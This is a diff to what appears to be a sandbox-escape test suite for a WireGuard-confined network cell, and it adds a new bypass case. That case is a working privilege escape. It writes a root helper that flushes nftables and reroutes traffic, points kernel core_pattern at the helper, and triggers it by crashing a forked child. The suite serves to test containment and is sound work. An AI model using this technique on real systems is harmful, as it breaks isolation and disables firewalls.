@@ -7,6 +7,9 @@ wall is down and which has every capability. Each leaves a mark that a capture c
 
 from __future__ import annotations
 
+import contextlib
+import os
+import signal
 import socket
 from collections.abc import Callable
 from dataclasses import dataclass
@@ -126,10 +129,27 @@ def _second_card(shell: Shell, udp: Udp) -> None:
     names = [card.name for card in Path("/sys/class/net").iterdir()]
     cards = [name for name in names if name not in ("lo", "eth0", "wg0")]
     for card in (*cards, "eth0"):
-        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
+        # One that takes no such frame, a WireGuard of ours say, is passed over.
+        with contextlib.suppress(OSError), socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
             shell(f"ip link set {card} up")
             raw.bind((card, 0x88B5))
             raw.send(b"\xff" * 6 + _GUEST_MAC + b"\x88\xb5wgcell-mark-card" + bytes(40))
+
+
+def _core_pattern(shell: Shell, udp: Udp) -> None:
+    """Whom the kernel starts when a process dies, it starts as root of the first namespaces."""
+    helper = Path("/work/helper")
+    helper.write_text(
+        "#!/bin/sh\nexport PATH=/bin\nnft flush ruleset\n"
+        "ip route replace 203.0.113.12/32 via 192.168.64.1 dev eth0\nping -c 1 203.0.113.12\n"
+    )
+    helper.chmod(0o755)
+    Path("/proc/sys/kernel/core_pattern").write_text("|/newroot/work/helper")
+    child = os.fork()
+    if child == 0:
+        os.kill(os.getpid(), signal.SIGSEGV)
+    os.waitpid(child, 0)
+    shell("sleep 2")
 
 
 def _arp_on(shell: Shell, udp: Udp) -> None:
@@ -177,17 +197,21 @@ _ALL = frozenset(Wall)
 _NOT_FIREWALL = _ALL - {Wall.FIREWALL}
 # Any user may send to a neighbour on a card that is in sight.
 _NOT_PRIVILEGES = _ALL - {Wall.PRIVILEGES}
+# Who may set wg0 up may change its port; its socket is where the card is.
+_NOT_NAMESPACE = _ALL - {Wall.NAMESPACE}
+_ONLY_PRIVILEGES = frozenset({Wall.PRIVILEGES})
 
 BYPASSES: tuple[Bypass, ...] = (
     Bypass("route-eth0", "routes one address over the card", b"wgcell-mark-route", _route, _ALL),
     Bypass("bindtodevice", "binds a socket to the card (SO_BINDTODEVICE)", b"wgcell-mark-bind", _bind, _ALL),
     Bypass("gateway-dns", "asks the link's gateway for a name", b"wgcell-mark-link", _on_link, _NOT_PRIVILEGES),
     Bypass("wg-repointed", "points its WireGuard at another host", bytes([203, 0, 113, 9]), _wg_repointed, _ALL),
-    Bypass("wg-port", "moves its WireGuard to another port", bytes.fromhex("9dd4ca6c"), _wg_port, _ALL),
+    Bypass("wg-port", "moves its WireGuard to another port", bytes.fromhex("9dd4ca6c"), _wg_port, _NOT_NAMESPACE),
     Bypass("wg-second", "starts a WireGuard of its own", bytes.fromhex("9dd5ca6c"), _second_wg, _ALL),
     Bypass("default-eth0", "moves the default route to the card", b"wgcell-mark-default", _default_route, _ALL),
     Bypass("second-card", "asks every PCI slot for another card, and sends from each there is", b"wgcell-mark-card", _second_card, _NOT_FIREWALL),
     Bypass("macvlan", "puts a macvlan onto the card", b"wgcell-mark-macvlan", _macvlan, _ALL),
+    Bypass("core-pattern", "has the kernel start a helper in the first namespaces", bytes([203, 0, 113, 12]), _core_pattern, _ONLY_PRIVILEGES),
     Bypass("arp-on", "turns ARP on", _GUEST_MAC + b"\x08\x06", _arp_on, _NOT_FIREWALL),
     Bypass("ipv6-on", "turns IPv6 on", _GUEST_MAC + b"\x86\xdd", _ipv6_on, _NOT_FIREWALL),
     Bypass("bridged", "makes the card a port of a bridge", b"wgcell-mark-bridge", _bridged, _ALL),
